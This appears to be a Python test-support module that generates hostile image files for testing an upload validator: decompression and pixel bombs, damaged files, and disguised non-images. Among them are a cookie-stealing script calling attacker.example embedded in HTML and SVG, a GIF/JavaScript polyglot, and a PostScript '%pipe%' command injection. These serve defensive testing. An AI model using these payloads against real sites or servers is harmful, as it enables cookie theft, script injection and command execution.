"""Hostile pictures: bombs, broken ones, and what is no picture at all."""

import struct
import zlib
from collections.abc import Callable
from functools import cache, partial
from io import BytesIO

from PIL import Image

from testing_support.document_files import pdf, word
from testing_support.hostile.files import GIF, JPEG, PNG, TIFF, TOO_LONG, WEBP, HostileFile
from testing_support.picture_files import chunk, encoded, gif, jpeg, png, tiff, webp

NO_PICTURE = "This is not a picture that can be read. Accepted are JPEG, PNG, WebP, GIF and TIFF."
TOO_MANY_PIXELS = "This picture has too many pixels. At most 50 million are accepted."
DAMAGED = "This picture is damaged. Save it again, or take it from where it came from, and upload it once more."

TYPES = {"JPEG": JPEG, "PNG": PNG, "WEBP": WEBP, "GIF": GIF, "TIFF": TIFF}
MAGIC = {
    "JPEG": b"\xff\xd8\xff\xe0",
    "PNG": b"\x89PNG\r\n\x1a\n",
    "WEBP": b"RIFF\x1a\0\0\0WEBPVP8 ",
    "GIF": b"GIF89a",
    "TIFF": b"II*\0\x08\0\0\0",
}
SCANS = 6000
"""Of a progressive JPEG. Each takes a pass over all of its blocks."""


def hostile_pictures() -> list[HostileFile]:
    """All hostile pictures."""
    return [*_bombs(), *_animations(), *_swelling(), *_damaged(), *_mistaken()]


def _bombs() -> list[HostileFile]:
    headers: dict[str, tuple[str, Callable[[], bytes]]] = {
        "png": (PNG, partial(png, 100_000, 100_000)),
        "jpeg": (JPEG, partial(jpeg, 65_500, 65_500)),
        "webp": (WEBP, partial(webp, 16_384, 16_384)),
        "gif": (GIF, partial(gif, 65_535, 65_535)),
        "tiff": (TIFF, partial(tiff, 0xFFFF_FFFF, 0xFFFF_FFFF)),
        "png of 2**31 - 1 pixels a line": (PNG, partial(png, 2**31 - 1, 1)),
        "png with all of its pixels": (PNG, _full_png),
        "webp of the extended form": (WEBP, partial(_extended_webp, 0)),
        "tiff of 16 channels of 64 bits": (TIFF, partial(tiff, 9_000, 9_000, (258, 3, 1, 64), (277, 3, 1, 16))),
    }
    reasons = {"tiff of 16 channels of 64 bits": NO_PICTURE}
    bombs = [
        HostileFile(f"pixels {name}", content_type, reasons.get(name, TOO_MANY_PIXELS), make)
        for name, (content_type, make) in headers.items()
    ]
    return [*bombs, HostileFile("jpeg with thousands of scans", JPEG, TOO_LONG, _jpeg_of_scans)]


def _animations() -> list[HostileFile]:
    return [
        HostileFile("animated gif on a large screen", GIF, TOO_MANY_PIXELS, _animated_gif),
        HostileFile("gif with a frame beyond its screen", GIF, TOO_MANY_PIXELS, _gif_of_large_frame),
        HostileFile("animated webp on a large canvas", WEBP, TOO_MANY_PIXELS, partial(_extended_webp, 2)),
        HostileFile("animated png of large frames", PNG, TOO_MANY_PIXELS, _animated_png),
    ]


def _swelling() -> list[HostileFile]:
    bomb = cache(partial(zlib.compress, bytes(100_000_000), 9))
    megabyte = zlib.compress(bytes(1_000_000), 9)
    return [
        HostileFile("png with a text that swells", PNG, DAMAGED, lambda: _with(chunk(b"zTXt", b"name\0\0" + bomb()))),
        HostileFile(
            "png with an international text that swells",
            PNG,
            DAMAGED,
            lambda: _with(chunk(b"iTXt", b"name\0\1\0\0\0" + bomb())),
        ),
        HostileFile(
            "png with a profile that swells", PNG, DAMAGED, lambda: _with(chunk(b"iCCP", b"name\0\0" + bomb()))
        ),
        HostileFile(
            "png with many texts that swell",
            PNG,
            DAMAGED,
            lambda: _with(*(chunk(b"zTXt", b"name\0\0" + megabyte) for _ in range(100))),
        ),
    ]


def _damaged() -> list[HostileFile]:
    truncated = [
        HostileFile(f"truncated {name.lower()}", content_type, DAMAGED, partial(_truncated, name))
        for name, content_type in TYPES.items()
    ]
    beginnings = [
        HostileFile(
            f"beginning of a {name.lower()}",
            TYPES[name],
            DAMAGED if name == "WEBP" else NO_PICTURE,
            partial(bytes, magic),
        )
        for name, magic in MAGIC.items()
    ]
    empty = [
        HostileFile(f"empty {name.lower()}", content_type, NO_PICTURE, bytes) for name, content_type in TYPES.items()
    ]
    return [
        *truncated,
        *beginnings,
        *empty,
        HostileFile("png with a wrong checksum", PNG, DAMAGED, _png_with_wrong_checksum),
        HostileFile("png without pixels", PNG, NO_PICTURE, partial(png, 0, 0)),
        HostileFile("gif with codes of 255 bits", GIF, DAMAGED, _gif_with_wrong_codes),
        HostileFile("webp with a chunk beyond its end", WEBP, DAMAGED, _webp_beyond_its_end),
        HostileFile("tiff with pixels beyond its end", TIFF, DAMAGED, partial(_tiff_elsewhere, 0x7FFF_FFFF)),
        HostileFile("tiff with 65,535 channels", TIFF, NO_PICTURE, partial(tiff, 8, 1, (277, 3, 1, 65_535))),
        HostileFile("jpeg of noise", JPEG, DAMAGED, _jpeg_of_noise),
    ]


def _mistaken() -> list[HostileFile]:
    script = b"<script>fetch('https://attacker.example/?' + document.cookie)</script>"
    contents = {
        "pdf called png": (PNG, pdf("Not a picture.")),
        "docx called jpeg": (JPEG, word(lambda document: document.add_paragraph("Not a picture."))),
        "html called gif": (GIF, b"<!doctype html>" + script),
        "svg called png": (PNG, b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>"),
        "text called tiff": (TIFF, b"Not a picture."),
        "program for Windows called webp": (WEBP, b"MZ" + bytes(2_000)),
        "program for Linux called jpeg": (JPEG, b"\x7fELF\x02\x01\x01" + bytes(2_000)),
        "postscript called jpeg": (JPEG, b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n"),
        "bitmap called png": (PNG, encoded(Image.new("RGB", (8, 8)), "BMP")),
        "icon called png": (PNG, encoded(Image.new("RGB", (16, 16)), "ICO")),
        "jpeg 2000 called jpeg": (JPEG, encoded(Image.new("RGB", (8, 8)), "JPEG2000")),
        "gif that is a script": (GIF, b"GIF89a/*" + bytes(8) + b"*/=1;alert(document.domain)"),
        "zip called gif": (GIF, b"PK\x05\x06" + bytes(18)),
    }
    return [
        HostileFile(name, content_type, NO_PICTURE, partial(bytes, content))
        for name, (content_type, content) in contents.items()
    ]


def _full_png() -> bytes:
    line = zlib.compressobj(9)
    pixels = b"".join(line.compress(bytes(5_001)) for _ in range(40_000)) + line.flush()
    header = struct.pack(">IIBBBBB", 40_000, 40_000, 1, 0, 0, 0, 0)
    return b"".join((MAGIC["PNG"], chunk(b"IHDR", header), chunk(b"IDAT", pixels), chunk(b"IEND", b"")))


def _with(*chunks: bytes) -> bytes:
    return png(8, 1, *chunks)


def _jpeg_of_scans() -> bytes:
    """A progressive JPEG whose last scan, which says of each block that nothing changes, comes again and again."""
    content = encoded(Image.new("L", (7_000, 7_000)), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    tables = content.rindex(b"\xff\xc4")
    return content[:-2] + content[min(last, tables) : -2] * SCANS + content[-2:]


def _animated_gif() -> bytes:
    file = BytesIO()
    frames = [Image.new("L", (1, 1), number) for number in range(250)]
    frames[0].save(file, "GIF", save_all=True, append_images=frames[1:], loop=0)
    content = file.getvalue()
    return content[:6] + struct.pack("<HH", 60_000, 60_000) + content[10:]


def _gif_of_large_frame() -> bytes:
    content = encoded(Image.new("P", (1, 1)), "GIF")
    frame = content.rindex(b"\x2c\0\0\0\0")
    return content[: frame + 5] + struct.pack("<HH", 60_000, 60_000) + content[frame + 9 :]


def _extended_webp(flags: int) -> bytes:
    """A WebP whose canvas is larger than all that is on it: RFC 9649, section 2.7."""
    side = struct.pack("<I", 16_383)[:3]
    picture = encoded(Image.new("RGB", (1, 1)), "WEBP", lossless=True)[12:]
    if flags:
        frame = bytes(6) + bytes(6) + bytes(3) + bytes(1) + picture
        picture = b"ANIM" + struct.pack("<IIH", 6, 0, 0) + b"ANMF" + struct.pack("<I", len(frame)) + frame
    body = b"WEBPVP8X" + struct.pack("<IB3x", 10, flags) + side + side + picture
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _animated_png() -> bytes:
    control = chunk(b"acTL", struct.pack(">II", 0xFFFF_FFFF, 0))
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 50_000, 50_000, 0, 0, 1, 1, 0, 0))
    return png(50_000, 50_000, control, frame)


def _truncated(file_format: str) -> bytes:
    content = encoded(Image.linear_gradient("L").rotate(33), file_format)
    return content[: len(content) * 2 // 3]


def _png_with_wrong_checksum() -> bytes:
    content = bytearray(encoded(Image.linear_gradient("L"), "PNG"))
    content[content.index(b"IDAT") + 20] ^= 0xFF
    return bytes(content)


def _gif_with_wrong_codes() -> bytes:
    content = bytearray(encoded(Image.new("P", (64, 64)), "GIF"))
    content[content.rindex(b"\x2c\0\0\0\0") + 10] = 255
    return bytes(content)


def _webp_beyond_its_end() -> bytes:
    content = encoded(Image.new("RGB", (8, 8)), "WEBP")
    return content[:16] + struct.pack("<I", 0xFFFF_FFF0) + content[20:]


def _tiff_elsewhere(offset: int) -> bytes:
    return tiff(8, 1).replace(struct.pack("<HHII", 273, 4, 1, 8), struct.pack("<HHII", 273, 4, 1, offset))


def _jpeg_of_noise() -> bytes:
    content = encoded(Image.new("RGB", (640, 480)), "JPEG")
    start = content.index(b"\xff\xda") + 14
    return content[:start] + b"\xff\xd0\xff\xc4\0\x05\x13\x37\x42" * 20
